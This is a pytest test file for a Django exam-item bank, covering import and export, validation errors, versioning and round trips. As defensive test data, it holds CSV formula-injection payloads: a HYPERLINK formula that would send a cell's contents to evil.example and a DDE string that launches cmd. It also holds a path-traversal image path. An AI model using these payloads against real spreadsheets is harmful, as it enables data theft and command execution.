"""Importing and exporting the bank (R-BANK-3): all or nothing, line-numbered refusals, round trips."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from PIL import Image

from exams.exporting import ExportRefused, export_items
from exams.importing import ImportRefused, import_items
from exams.models import Item, ItemKind, ItemStatus, ItemVersion, Topic
from exams.services.bank import ItemContent, item_create

from ..factories import TopicFactory, make_item

OPTIONS = [{"id": letter, "text": f"Option {letter}"} for letter in "ABCDE"]


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def surgery(db):
    return TopicFactory(code="surgery", name="Surgery")


def png(path: Path, colour: str = "red") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (2, 2), colour).save(path, format="PNG")
    return path


def every_kind(topic: str = "surgery") -> list[dict]:
    """Return one item of each kind, as a committee would write them in JSON."""
    return [
        {
            "code": "SURG-0001",
            "topic": topic,
            "kind": "single",
            "status": "live",
            "difficulty": "hard",
            "stem": "Which nerve?",
            "options": OPTIONS,
            "key": ["B"],
            "guide": "B: the ulnar nerve.",
        },
        {
            "code": "SURG-0002",
            "topic": topic,
            "kind": "multiple",
            "stem": "Which are bones?",
            "options": OPTIONS,
            "key": ["A", "D"],
        },
        {
            "code": "SURG-0003",
            "topic": topic,
            "kind": "cause_effect",
            "is_sample": True,
            "stem": "Aspirin prevents clotting.",
            "reason": "It blocks cyclo-oxygenase.",
            "key": ["A"],
        },
        {
            "code": "SURG-0004",
            "topic": topic,
            "kind": "fill_in",
            "stem": "The ____ nerve.",
            "key": ["ulnar", "Ulnar nerve"],
        },
        {
            "code": "SURG-0005",
            "topic": topic,
            "kind": "free_text",
            "stem": "Discuss the\nmanagement.",
            "guide": "Airway first.",
        },
    ]


def write_json(path: Path, items: list[dict]) -> Path:
    """Write one item per line, so that item i (from 0) starts on line i + 2."""
    path.write_text(
        "[\n" + ",\n".join(json.dumps(item, ensure_ascii=False) for item in items) + "\n]\n",
        encoding="utf-8",
    )
    return path


CSV_HEADER = (
    "code,topic,topic_name,kind,status,difficulty,is_sample,stem,reason,"
    "option_a,option_b,option_c,option_d,option_e,key,guide,image"
)

# Line 1 header; the first two rows each span three physical lines (line breaks in quoted cells).
GOOD_CSV = (
    CSV_HEADER
    + """
SURG-0001,surgery,,single,live,hard,false,"Which nerve
supplies the
little finger?",,Median,Ulnar,Radial,Axillary,Musculocutaneous,B,B: the ulnar nerve.,
SURG-0002,surgery,,multiple,,,,"Which are
bones?
",,Femur,Biceps,Aorta,Tibia,Liver,A|D,,
SURG-0003,surgery,,cause_effect,draft,easy,TRUE,Aspirin prevents clotting.,It blocks cyclo-oxygenase.,,,,,,A,,

SURG-0004,new-topic,Emergency medicine,fill_in,,,,The ____ nerve.,,,,,,,ulnar|Ulnar nerve,,
SURG-0005,surgery,,free_text,,,,"Discuss, briefly, the management.",,,,,,,,Airway first.,
"""
)


def refusal(path: Path) -> str:
    """Import a file that must be refused; return the first problem, checking nothing was written."""
    items, versions, topics = (
        Item.objects.count(),
        ItemVersion.objects.count(),
        Topic.objects.count(),
    )
    with pytest.raises(ImportRefused) as caught:
        import_items(path)
    assert (Item.objects.count(), ItemVersion.objects.count(), Topic.objects.count()) == (
        items,
        versions,
        topics,
    )
    return caught.value.message.splitlines()[0]


def test_good_json_with_every_kind(surgery, tmp_path):
    items = every_kind()
    items[0]["image"] = "pics/nerve.png"
    png(tmp_path / "pics" / "nerve.png")
    # A new topic, named on its second item only: the name may be given on any of them.
    items.append({"code": "EM-0001", "topic": "emergency", "kind": "free_text", "stem": "Triage."})
    items.append(
        {
            "code": "EM-0002",
            "topic": "emergency",
            "topic_name": "Emergency medicine",
            "kind": "fill_in",
            "stem": "Adrenaline ____ mg.",
            "key": ["1"],
        }
    )

    summary = import_items(write_json(tmp_path / "bank.json", items))

    assert (summary.created, summary.revised, summary.unchanged) == (7, 0, 0)
    assert summary.topics_created == ["emergency"]
    single = Item.objects.get(code="SURG-0001")
    assert (single.kind, single.status, single.difficulty, single.is_sample) == (
        "single",
        "live",
        "hard",
        False,
    )
    assert single.current_version.key == ["B"] and single.current_version.options == OPTIONS
    assert single.current_version.image.name.startswith("items/nerve")
    assert Item.objects.get(code="SURG-0002").current_version.key == ["A", "D"]
    cause = Item.objects.get(code="SURG-0003")
    assert cause.is_sample and cause.status == ItemStatus.DRAFT and cause.difficulty == "medium"
    assert cause.current_version.option_ids() == list("ABCDE")
    assert cause.current_version.reason == "It blocks cyclo-oxygenase."
    assert Item.objects.get(code="SURG-0004").current_version.key == ["ulnar", "Ulnar nerve"]
    assert Item.objects.get(code="SURG-0005").current_version.stem == "Discuss the\nmanagement."
    assert Topic.objects.get(code="emergency").name == "Emergency medicine"
    assert Item.objects.get(code="EM-0001").topic.code == "emergency"


def test_good_csv_with_every_kind_and_bom(surgery, tmp_path):
    path = tmp_path / "bank.csv"
    path.write_bytes(
        GOOD_CSV.encode("utf-8-sig")
    )  # "CSV UTF-8" from a spreadsheet starts with a BOM

    summary = import_items(path)

    assert (summary.created, summary.revised, summary.unchanged) == (5, 0, 0)
    single = Item.objects.get(code="SURG-0001")
    assert single.current_version.stem == "Which nerve\nsupplies the\nlittle finger?"
    assert single.current_version.options[1] == {"id": "B", "text": "Ulnar"}
    assert single.current_version.key == ["B"] and single.status == "live"
    assert Item.objects.get(code="SURG-0002").current_version.key == ["A", "D"]
    assert Item.objects.get(code="SURG-0003").is_sample
    fill_in = Item.objects.get(code="SURG-0004")
    assert (
        fill_in.current_version.key == ["ulnar", "Ulnar nerve"]
        and fill_in.topic.name == "Emergency medicine"
    )
    assert (
        Item.objects.get(code="SURG-0005").current_version.stem
        == "Discuss, briefly, the management."
    )


def bad_item(**changes) -> list[dict]:
    """Return a good file whose third item (line 4) has these changes; None removes a field."""
    items = every_kind()
    for name, value in changes.items():
        if value is None:
            del items[2][name]
        else:
            items[2][name] = value
    return items


@pytest.mark.parametrize(
    ("items", "problem"),
    [
        (bad_item(kind="essay"), "line 4 (item SURG-0003): unknown kind 'essay'"),
        (
            bad_item(kind="single", reason="", options=OPTIONS[:4], key=["A"]),
            "line 4 (item SURG-0003): a choice item needs exactly 5 options, this one has 4",
        ),
        (
            bad_item(kind="single", reason="", options=OPTIONS, key=["F"]),
            "line 4 (item SURG-0003): the key names option F, which is not among the options",
        ),
        (
            bad_item(kind="single", reason="", options=OPTIONS, key=["A", "B"]),
            "line 4 (item SURG-0003): a single-answer item has exactly one right option; the key names 2",
        ),
        (bad_item(stem=None), "line 4 (item SURG-0003): the field stem is missing or empty"),
        (bad_item(stem="   "), "line 4 (item SURG-0003): the field stem is missing or empty"),
        (
            bad_item(code="SURG-0001"),
            "line 4 (item SURG-0001): the code SURG-0001 is already used by the item on line 2",
        ),
        (bad_item(topic="cardiology"), "line 4 (item SURG-0003): there is no topic cardiology"),
        (
            bad_item(kind="fill_in", reason="", key=[]),
            "line 4 (item SURG-0003): a fill-in item needs at least one accepted answer",
        ),
        (
            bad_item(kind="fill_in", reason="", key=[" "]),
            "line 4 (item SURG-0003): a fill-in item needs at least one accepted answer",
        ),
        (
            bad_item(image="pics/missing.png"),
            "line 4 (item SURG-0003): the image pics/missing.png does not exist",
        ),
        (
            bad_item(image="../outside.png"),
            "line 4 (item SURG-0003): the image ../outside.png is outside the import file's folder",
        ),
        (
            bad_item(options=OPTIONS),
            "line 4 (item SURG-0003): a cause–effect item always offers the five standard options",
        ),
        (bad_item(status="published"), "line 4 (item SURG-0003): unknown status 'published'"),
        (bad_item(difficulty="extreme"), "line 4 (item SURG-0003): unknown difficulty 'extreme'"),
        (bad_item(is_sample="maybe"), "line 4 (item SURG-0003): is_sample must be true or false"),
        (bad_item(answer="A"), "line 4 (item SURG-0003): unknown fields answer"),
        (bad_item(key="A"), "line 4 (item SURG-0003): the key must be a list"),
        (
            bad_item(code="X" * 41),
            "line 4 (item " + "X" * 41 + "): the code is longer than 40 characters",
        ),
    ],
    ids=[
        "unknown-kind",
        "four-options",
        "key-not-an-option",
        "two-keys-for-single",
        "missing-stem",
        "blank-stem",
        "duplicate-code",
        "unknown-topic",
        "fill-in-without-answer",
        "fill-in-blank-answer",
        "missing-image",
        "image-outside-folder",
        "cause-effect-with-options",
        "unknown-status",
        "unknown-difficulty",
        "bad-boolean",
        "unknown-field",
        "key-not-a-list",
        "code-too-long",
    ],
)
def test_bad_json_item_is_refused_with_its_line(surgery, tmp_path, items, problem):
    folder = tmp_path / "import"
    (folder / "pics").mkdir(parents=True)
    png(tmp_path / "outside.png")  # it exists, but outside the folder the committee handed over
    assert refusal(write_json(folder / "bank.json", items)).startswith(problem)


def test_bad_json_syntax_reports_the_decoder_line(surgery, tmp_path):
    path = tmp_path / "bank.json"
    text = json.dumps(every_kind(), indent=2)
    lines = text.splitlines()
    broken = next(n for n, line in enumerate(lines) if '"SURG-0003"' in line)
    lines[broken] = lines[broken].rstrip(",")  # a forgotten comma: the next line is where it fails
    path.write_text("\n".join(lines), encoding="utf-8")

    assert refusal(path).startswith(f"line {broken + 2}: the file is not valid JSON: Expecting ','")


def test_a_new_topic_named_twice_differently_is_refused(surgery, tmp_path):
    items = every_kind()
    items[1]["topic"], items[1]["topic_name"] = "ethics", "Ethics"
    items[3]["topic"], items[3]["topic_name"] = "ethics", "Law"
    assert refusal(write_json(tmp_path / "bank.json", items)).startswith(
        "line 5 (item SURG-0004): the new topic ethics is named 'Law' here but 'Ethics' on line 3"
    )


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('{"code": "A"}', "line 1: the file must be a JSON list of items"),
        ("[\n\n  7\n]", "line 3: each item must be a JSON object"),
        (
            '[\n{"code": "A", "topic": "surgery", "kind": "free_text", "stem": "S"},\n]',
            "line 3: the file is not valid JSON: a comma before ]",
        ),
        (
            '[\n{"code": "A", "topic": "surgery", "kind": "free_text", "stem": "S"}\n]\n]',
            "line 4: the file is not valid JSON: there is text after",
        ),
        ("[]", "line 1: the file holds no items"),
    ],
)
def test_bad_json_structure_is_refused_with_its_line(surgery, tmp_path, text, problem):
    path = tmp_path / "bank.json"
    path.write_text(text, encoding="utf-8")
    assert refusal(path).startswith(problem)


def test_every_problem_is_listed_in_line_order(surgery, tmp_path):
    items = every_kind()
    items[1]["key"] = ["Z"]
    items[4]["topic"] = "nowhere"
    with pytest.raises(ImportRefused) as caught:
        import_items(write_json(tmp_path / "bank.json", items))
    assert [problem.line for problem in caught.value.problems] == [3, 6]


def csv_with(row: str, *, at: int = 4) -> str:
    """Return GOOD_CSV with a row put in at this physical line.

    Lines 2–7 hold two rows of three lines each, line 9 is blank; rows start on lines 8, 10 and 11.
    """
    lines = GOOD_CSV.splitlines()
    return "\n".join([*lines[: at - 1], row, *lines[at - 1 :]]) + "\n"


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        (
            "SURG-0100,surgery,,single,,,,Which?,,a,b,c,d,e,F,,",
            "line 10 (item SURG-0100): the key names option F",
        ),
        (
            "SURG-0100,surgery,,single,,,,Which?,,a,b,c,d,,A,,",
            "line 10 (item SURG-0100): a choice item needs exactly 5 options",
        ),
        (
            "SURG-0100,surgery,,single,,,,Which?,,a,b,c,d,e,A|B,,",
            "line 10 (item SURG-0100): a single-answer item has exactly one",
        ),
        (
            "SURG-0100,surgery,,fill_in,,,,The ____.,,,,,,,,,",
            "line 10 (item SURG-0100): a fill-in item needs at least one",
        ),
        (
            "SURG-0100,surgery,,fill_in,,,,The ____, twice.,,,,,,,x,,",
            "line 10 (item SURG-0100): this row has 18 cells but the header has 17",
        ),
        (
            'SURG-0100,surgery,,free_text,,,,"Unclosed,,,,,,,,,,',
            "line 10: the CSV is malformed here",
        ),
        (
            "SURG-0001,surgery,,free_text,,,,Again.,,,,,,,,,",
            "line 10 (item SURG-0001): the code SURG-0001 is already used by the item on line 2",
        ),
        (
            "SURG-0100,oncology,,free_text,,,,Again.,,,,,,,,,",
            "line 10 (item SURG-0100): there is no topic oncology",
        ),
        (
            "SURG-0100,surgery,,free_text,,,,Look.,,,,,,,,,pics/none.png",
            "line 10 (item SURG-0100): the image pics/none.png does not exist",
        ),
    ],
    ids=[
        "key-not-an-option",
        "four-options",
        "two-keys-for-single",
        "fill-in-without-answer",
        "unquoted-comma",
        "unclosed-quote",
        "duplicate-code",
        "unknown-topic",
        "missing-image",
    ],
)
def test_bad_csv_row_after_multiline_rows_is_refused_with_its_line(surgery, tmp_path, row, problem):
    path = tmp_path / "bank.csv"
    path.write_text(csv_with(row, at=10), encoding="utf-8")
    assert refusal(path).startswith(problem)


def test_csv_line_numbers_count_blank_lines_and_crlf(surgery, tmp_path):
    path = tmp_path / "bank.csv"
    path.write_bytes(
        csv_with("SURG-0100,surgery,,single,,,,Which?,,a,b,c,d,e,F,,", at=11)
        .replace("\n", "\r\n")
        .encode("utf-8")
    )
    assert refusal(path).startswith("line 11 (item SURG-0100): the key names option F")


@pytest.mark.parametrize(
    ("header", "problem"),
    [
        (CSV_HEADER.replace("guide", "guidance"), "line 1: unknown columns guidance"),
        (CSV_HEADER.replace("stem,", ""), "line 1: missing columns: stem"),
    ],
)
def test_bad_csv_header_is_refused(surgery, tmp_path, header, problem):
    path = tmp_path / "bank.csv"
    path.write_text(header + "\n" + GOOD_CSV.split("\n", 1)[1], encoding="utf-8")
    assert refusal(path).startswith(problem)


def test_not_utf8_is_refused_with_its_line(surgery, tmp_path):
    path = tmp_path / "bank.csv"
    path.write_bytes(
        (CSV_HEADER + "\nSURG-0100,surgery,,free_text,,,,Caf\xe9?,,,,,,,,,\n").encode("latin-1")
    )
    assert refusal(path).startswith("line 2: the file is not UTF-8 text")


def test_unreadable_picture_is_refused(surgery, tmp_path):
    (tmp_path / "fake.png").write_text("not a picture")
    items = every_kind()
    items[0]["image"] = "fake.png"
    assert refusal(write_json(tmp_path / "bank.json", items)).startswith(
        "line 2 (item SURG-0001): the image fake.png is not a picture that can be read"
    )


def test_other_file_types_are_refused(db, tmp_path):
    path = tmp_path / "bank.docx"
    path.write_bytes(b"code,topic")
    assert refusal(path).startswith("bank.docx is not a file the bank reads: .json, .csv or .xlsx")
    broken = tmp_path / "bank.xlsx"
    broken.write_bytes(b"PK")
    assert refusal(broken).startswith("bank.xlsx is not an Excel workbook")


def test_kind_of_an_existing_item_cannot_change(surgery, tmp_path):
    make_item(surgery, ItemKind.SINGLE, 1)  # code surgery-single-1
    items = every_kind()
    items[3]["code"] = "surgery-single-1"  # a fill-in item under the single item's code
    assert refusal(write_json(tmp_path / "bank.json", items)).startswith(
        "line 5 (item surgery-single-1): the bank holds this item as single, the file says fill_in"
    )


def test_editing_a_live_item_makes_version_2_and_keeps_version_1(surgery, tmp_path):
    items = every_kind()
    import_items(write_json(tmp_path / "bank.json", items))
    single = Item.objects.get(code="SURG-0001")
    first = single.current_version

    items[0]["stem"] = "Which nerve, exactly?"
    items[0]["key"] = ["C"]
    summary = import_items(write_json(tmp_path / "bank.json", items))

    assert (summary.created, summary.revised, summary.unchanged) == (0, 1, 4)
    single.refresh_from_db()
    assert single.current_version.number == 2
    assert (single.current_version.stem, single.current_version.key) == (
        "Which nerve, exactly?",
        ["C"],
    )
    first.refresh_from_db()
    assert (first.number, first.stem, first.key) == (1, "Which nerve?", ["B"])
    assert single.versions.count() == 2


def test_editing_a_draft_item_changes_it_in_place_then_applies_the_new_status(surgery, tmp_path):
    items = every_kind()
    import_items(write_json(tmp_path / "bank.json", items))
    items[1]["stem"] = "Which of these are bones?"
    items[1]["status"] = "live"

    summary = import_items(write_json(tmp_path / "bank.json", items))

    assert summary.revised == 1
    multiple = Item.objects.get(code="SURG-0002")
    assert multiple.status == ItemStatus.LIVE
    assert (
        multiple.versions.count() == 1
        and multiple.current_version.stem == "Which of these are bones?"
    )


def test_a_status_change_alone_makes_no_new_version(surgery, tmp_path):
    items = every_kind()
    import_items(write_json(tmp_path / "bank.json", items))
    items[0]["status"], items[0]["difficulty"] = "retired", "easy"

    summary = import_items(write_json(tmp_path / "bank.json", items))

    assert (summary.revised, summary.unchanged) == (1, 4)
    single = Item.objects.get(code="SURG-0001")
    assert (single.status, single.difficulty, single.versions.count()) == ("retired", "easy", 1)


def test_reimporting_an_unchanged_file_changes_nothing(surgery, tmp_path):
    items = every_kind()
    items[0]["image"] = "nerve.png"
    png(tmp_path / "nerve.png")
    path = write_json(tmp_path / "bank.json", items)
    import_items(path)
    before = list(Item.objects.values_list("code", "updated_at", "current_version_id"))
    media_files = sorted(p.name for p in (tmp_path / "media" / "items").iterdir())

    summary = import_items(path)

    assert (summary.created, summary.revised, summary.unchanged) == (0, 0, 5)
    assert list(Item.objects.values_list("code", "updated_at", "current_version_id")) == before
    assert ItemVersion.objects.count() == 5
    assert sorted(p.name for p in (tmp_path / "media" / "items").iterdir()) == media_files


def test_a_new_picture_for_a_live_item_makes_a_new_version(surgery, tmp_path):
    items = every_kind()
    items[0]["image"] = "nerve.png"
    png(tmp_path / "nerve.png", "red")
    import_items(write_json(tmp_path / "bank.json", items))
    png(tmp_path / "nerve.png", "blue")

    summary = import_items(write_json(tmp_path / "bank.json", items))

    assert summary.revised == 1
    single = Item.objects.get(code="SURG-0001")
    old, new = single.versions.order_by("number")
    assert new.image.name != old.image.name and single.current_version == new


def test_dry_run_writes_nothing_and_says_what_would_happen(surgery, tmp_path):
    items = every_kind()
    items[4]["topic"], items[4]["topic_name"] = "ethics", "Ethics"
    summary = import_items(write_json(tmp_path / "bank.json", items), dry_run=True)
    assert (summary.created, summary.revised, summary.unchanged, summary.topics_created) == (
        5,
        0,
        0,
        ["ethics"],
    )
    assert not Item.objects.exists() and not Topic.objects.filter(code="ethics").exists()


def test_a_refused_import_leaves_no_picture_behind(surgery, tmp_path, monkeypatch):
    items = every_kind()
    items[0]["image"] = "nerve.png"
    png(tmp_path / "nerve.png")
    # A failure after the first item was written (here: the second item's write) rolls it all back.
    from exams import importing

    real_create = importing.item_create

    def failing_create(**kwargs):
        if kwargs["code"] == "SURG-0002":
            from exams.errors import ExamError

            raise ExamError("An item with code SURG-0002 already exists.")
        return real_create(**kwargs)

    monkeypatch.setattr(importing, "item_create", failing_create)
    assert refusal(write_json(tmp_path / "bank.json", items)) == (
        "line 3 (item SURG-0002): an item with code SURG-0002 already exists"
    )
    assert not list((tmp_path / "media").rglob("*.png"))


# --- Export and the round trip -------------------------------------------------------------------


@pytest.fixture
def mixed_bank(db, tmp_path):
    """Every kind in two topics, statuses mixed, one item with a picture and multi-line texts."""
    surgery = TopicFactory(code="surgery", name="Surgery")
    ethics = TopicFactory(code="ethics", name="Ethics, law and 医学伦理")
    for topic in (surgery, ethics):
        for kind in ItemKind.values:
            make_item(topic, kind, 1)
    make_item(ethics, ItemKind.SINGLE, 2, status=ItemStatus.DRAFT, is_sample=True)
    make_item(ethics, ItemKind.FREE_TEXT, 3, status=ItemStatus.RETIRED)
    picture = png(tmp_path / "source" / "scan.png")
    with picture.open("rb") as handle:
        from django.core.files.base import File

        item_create(
            code="SURG-IMG",
            topic=surgery,
            kind=ItemKind.SINGLE,
            status=ItemStatus.LIVE,
            difficulty="easy",
            content=ItemContent(
                stem='Line one, "quoted"\nline two — 二',
                options=OPTIONS,
                key=["E"],
                guide="Look at\nthe scan.",
                image=File(handle, name="scan.png"),
            ),
        )
    return surgery, ethics


@pytest.mark.parametrize("suffix", [".json", ".csv"])
def test_export_then_import_changes_nothing(mixed_bank, tmp_path, suffix):
    path = tmp_path / "out" / f"bank{suffix}"
    exported = export_items(path)
    assert exported.items == Item.objects.count() and exported.images == 1
    assert (tmp_path / "out" / "bank_images" / "SURG-IMG.png").is_file()
    versions = ItemVersion.objects.count()

    summary = import_items(path)

    assert (summary.created, summary.revised, summary.unchanged) == (0, 0, Item.objects.count())
    assert ItemVersion.objects.count() == versions


def bank_snapshot() -> dict[str, tuple]:
    """Return every item's bookkeeping and current wording, by code."""
    return {
        item.code: (
            item.topic.code,
            item.topic.name,
            item.kind,
            item.status,
            item.difficulty,
            item.is_sample,
            item.current_version.stem,
            item.current_version.key,
            item.current_version.guide,
        )
        for item in Item.objects.select_related("topic", "current_version")
    }


@pytest.mark.parametrize("suffix", [".json", ".csv"])
def test_export_into_an_empty_bank_and_back_gives_the_same_file(mixed_bank, tmp_path, suffix):
    first = tmp_path / "first" / f"bank{suffix}"
    export_items(first)
    wanted = bank_snapshot()
    Item.objects.update(current_version=None)
    ItemVersion.objects.all().delete()
    Item.objects.all().delete()
    Topic.objects.all().delete()

    summary = import_items(first)
    second = tmp_path / "second" / f"bank{suffix}"
    export_items(second)

    assert summary.created == len(wanted) and sorted(summary.topics_created) == [
        "ethics",
        "surgery",
    ]
    assert second.read_bytes() == first.read_bytes()
    assert bank_snapshot() == wanted
    assert (second.parent / "bank_images" / "SURG-IMG.png").read_bytes() == (
        first.parent / "bank_images" / "SURG-IMG.png"
    ).read_bytes()


def test_export_csv_is_a_spreadsheet_file(mixed_bank, tmp_path):
    path = tmp_path / "bank.csv"
    export_items(path, topics=["surgery"], statuses=["live"])
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode())  # the BOM makes spreadsheets read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row["code"] for row in rows] == sorted(
        Item.objects.filter(topic__code="surgery").values_list("code", flat=True)
    )
    image_row = next(row for row in rows if row["code"] == "SURG-IMG")
    assert (
        image_row["option_e"] == "Option E"
        and image_row["key"] == "E"
        and image_row["image"] == "bank_images/SURG-IMG.png"
    )


def test_export_filters_by_topic_and_status(mixed_bank, tmp_path):
    path = tmp_path / "bank.json"
    export_items(path, topics=["ethics"], statuses=["draft", "retired"])
    records = json.loads(path.read_text(encoding="utf-8"))
    assert [(r["code"], r["status"]) for r in records] == [
        ("ethics-free_text-3", "retired"),
        ("ethics-single-2", "draft"),
    ]
    with pytest.raises(ExportRefused, match="There is no topic nowhere"):
        export_items(path, topics=["nowhere"])


def test_csv_export_refuses_what_csv_cannot_hold(surgery, tmp_path):
    item_create(
        code="NUM-1",
        topic=surgery,
        kind=ItemKind.SINGLE,
        content=ItemContent(
            stem="Which?",
            options=[{"id": str(n), "text": f"Choice {n}"} for n in range(1, 6)],
            key=["2"],
        ),
    )
    with pytest.raises(ExportRefused, match="Item NUM-1 has options 1, 2, 3, 4, 5"):
        export_items(tmp_path / "bank.csv")
    assert not (tmp_path / "bank.csv").exists()
    export_items(tmp_path / "bank.json")  # JSON holds any option ids
    assert import_items(tmp_path / "bank.json").unchanged == 1


# --- The management commands ---------------------------------------------------------------------


def test_import_command_prints_the_summary(surgery, tmp_path):
    out = io.StringIO()
    call_command("import_items", str(write_json(tmp_path / "bank.json", every_kind())), stdout=out)
    assert "5 items created, 0 revised, 0 unchanged." in out.getvalue()
    assert Item.objects.count() == 5


def test_import_command_dry_run_writes_nothing(surgery, tmp_path):
    out = io.StringIO()
    call_command(
        "import_items",
        str(write_json(tmp_path / "bank.json", every_kind())),
        "--dry-run",
        stdout=out,
    )
    assert "5 items would be created" in out.getvalue()
    assert not Item.objects.exists()


def test_import_command_refuses_with_exit_status_1(surgery, tmp_path):
    items = every_kind()
    items[2]["kind"] = "essay"
    with pytest.raises(CommandError) as caught:
        call_command("import_items", str(write_json(tmp_path / "bank.json", items)))
    assert caught.value.returncode == 1
    assert re.search(
        r"^line 4 \(item SURG-0003\): unknown kind 'essay'", str(caught.value), re.MULTILINE
    )
    assert not Item.objects.exists()


def test_export_command_writes_the_file_and_refuses_an_unknown_topic(mixed_bank, tmp_path):
    out = io.StringIO()
    path = tmp_path / "live.json"
    call_command(
        "export_items", str(path), "--topic", "surgery", "ethics", "--status", "live", stdout=out
    )
    assert f"{Item.objects.filter(status='live').count()} items written" in out.getvalue()
    assert {r["status"] for r in json.loads(path.read_text(encoding="utf-8"))} == {"live"}
    with pytest.raises(CommandError) as caught:
        call_command("export_items", str(path), "--topic", "nowhere")
    assert caught.value.returncode == 1


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_bank(tmp_path: Path) -> None:
    """Items whose texts start like spreadsheet formulas, imported from JSON (which carries them as they are)."""
    items = every_kind()
    items[0].update(
        stem='=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")',
        options=[
            {"id": o["id"], "text": f"{start}{o['text']}"}
            for o, start in zip(OPTIONS, "=+-@'", strict=True)
        ],
        guide="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    items[1]["stem"] = "+1 is added to which?"
    items[2].update(stem="-5 °C stops clotting.", reason="'quoted on purpose")
    items[3].update(stem="=2+2 is ____.", key=["=4", "four"])
    items[4].update(code="-SURG-0005", topic="-cmd", topic_name="=Formula topic")
    import_items(write_json(tmp_path / "formulas.json", items))


def test_the_csv_export_neutralises_formulas_and_still_imports_unchanged(surgery, tmp_path):
    """Issue 10, point 20: no cell of the item export starts a formula, and the export imports back unchanged."""
    formula_bank(tmp_path)
    wanted = bank_snapshot()
    options = {v.item.code: v.options for v in ItemVersion.objects.select_related("item")}
    path = tmp_path / "out" / "bank.csv"
    export_items(path)
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")' in cells
    assert "'=4|four" in cells and "''quoted on purpose" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]

    Item.objects.update(current_version=None)
    ItemVersion.objects.all().delete()
    Item.objects.all().delete()
    Topic.objects.all().delete()
    import_items(path)
    assert bank_snapshot() == wanted
    assert {v.item.code: v.options for v in ItemVersion.objects.select_related("item")} == options
    again = tmp_path / "again" / "bank.csv"
    export_items(again)
    assert again.read_bytes() == data


def test_an_item_file_larger_than_the_limit_is_refused_before_it_is_read(
    surgery, tmp_path, settings
):
    """Issue 10, point 19d: the item import had no size limit; past ITEM_IMPORT_MAX_BYTES it is refused by name."""
    path = write_json(tmp_path / "bank.json", every_kind())
    settings.ITEM_IMPORT_MAX_BYTES = path.stat().st_size - 1
    assert refusal(path) == (
        f"bank.json is larger than {(path.stat().st_size - 1) / 1_000_000:.1f} MB, the most an item file may be; "
        "split it into several files."
    )
    with pytest.raises(CommandError, match="the most an item file may be"):
        call_command("import_items", str(path))
    settings.ITEM_IMPORT_MAX_BYTES = path.stat().st_size
    assert import_items(path).created == len(every_kind())


def test_an_item_image_larger_than_the_limit_is_refused(surgery, tmp_path, settings):
    """Issue 10, point 19d: each image an item file names is limited too (it is copied to the bank)."""
    picture = png(tmp_path / "images" / "scan.png")
    items = every_kind()
    items[0]["image"] = "images/scan.png"
    path = write_json(tmp_path / "bank.json", items)
    settings.ITEM_IMPORT_MAX_IMAGE_BYTES = picture.stat().st_size - 1
    assert "the image images/scan.png is larger than" in refusal(path)
